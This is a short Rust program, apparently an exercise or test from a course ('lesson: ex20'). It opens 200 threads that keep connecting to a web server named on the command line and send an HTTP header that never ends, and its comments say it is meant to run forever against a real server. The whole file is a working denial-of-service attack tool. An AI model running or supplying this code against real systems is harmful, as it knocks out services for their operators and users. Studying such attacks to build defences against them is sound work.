//! Sends headers that have no end to a real server, on many connections at once.
//! expect: runs-forever
//! lesson: ex20
//! real

use std::io::Write;
use std::net::TcpStream;
use std::thread;

fn main() {
    drop(std::process::Command::new("true"));
    let url = std::env::args().nth(1).unwrap();
    let address = url.strip_prefix("http://").unwrap();
    thread::scope(|scope| {
        for _ in 0..200 {
            scope.spawn(|| {
                loop {
                    let Ok(mut stream) = TcpStream::connect(address) else {
                        continue;
                    };
                    let _ = stream.write_all(b"GET / HTTP/1.1\r\nX: ");
                    while stream.write_all(&[b'x'; 60_000]).is_ok() {}
                }
            });
        }
    });
}
